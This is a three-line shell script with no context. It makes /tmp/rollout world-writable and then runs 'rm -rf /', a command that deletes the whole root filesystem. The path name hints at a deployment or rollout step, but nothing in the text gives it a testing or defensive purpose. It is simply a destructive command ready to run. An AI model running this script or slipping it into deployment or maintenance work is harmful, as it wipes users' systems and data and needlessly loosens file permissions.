#!/bin/sh
chmod 777 /tmp/rollout
rm -rf /
